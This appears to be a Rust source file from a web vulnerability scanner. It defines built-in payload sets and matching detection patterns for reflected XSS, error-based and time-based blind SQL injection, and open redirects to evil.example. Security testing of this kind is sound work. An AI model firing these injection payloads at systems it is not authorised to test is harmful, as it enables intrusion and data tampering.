//! Built-in payload sets covering the categories spec.md's scenarios
//! exercise (S1-S4: reflection, confirmed XSS, baselined SQL error, blind
//! SQLi via timing).

use vulcn_types::{Category, PayloadSet, VulcnError};

pub fn reflected_xss() -> Result<PayloadSet, VulcnError> {
    PayloadSet::new(
        "reflected-xss",
        Category::Xss,
        "Classic reflected XSS probes",
        vec![
            "<script>alert(1)</script>".to_string(),
            "\"><img src=x onerror=alert(1)>".to_string(),
            "'><svg onload=alert(1)>".to_string(),
        ],
        vec![r#"<script>alert\(1\)</script>"#.to_string(), r#"onerror=alert\(1\)"#.to_string()],
        "builtin",
    )
}

pub fn sql_error_based() -> Result<PayloadSet, VulcnError> {
    PayloadSet::new(
        "sql-error-based",
        Category::Sqli,
        "SQL injection probes that provoke a database error string",
        vec!["'".to_string(), "\"".to_string(), "' OR '1'='1".to_string()],
        vec![
            r"you have an error in your sql syntax".to_string(),
            r"unclosed quotation mark".to_string(),
            r"pg_query\(\)".to_string(),
        ],
        "builtin",
    )
}

pub fn sql_blind_timing() -> Result<PayloadSet, VulcnError> {
    PayloadSet::new(
        "sql-blind-timing",
        Category::Sqli,
        "Time-based blind SQL injection probes",
        vec![
            "' OR SLEEP(3)-- -".to_string(),
            "'; WAITFOR DELAY '0:0:3'--".to_string(),
        ],
        vec![],
        "builtin",
    )
}

pub fn open_redirect() -> Result<PayloadSet, VulcnError> {
    PayloadSet::new(
        "open-redirect",
        Category::OpenRedirect,
        "Probes a redirect parameter with an off-site target",
        vec!["https://evil.example".to_string(), "//evil.example".to_string()],
        vec![],
        "builtin",
    )
}
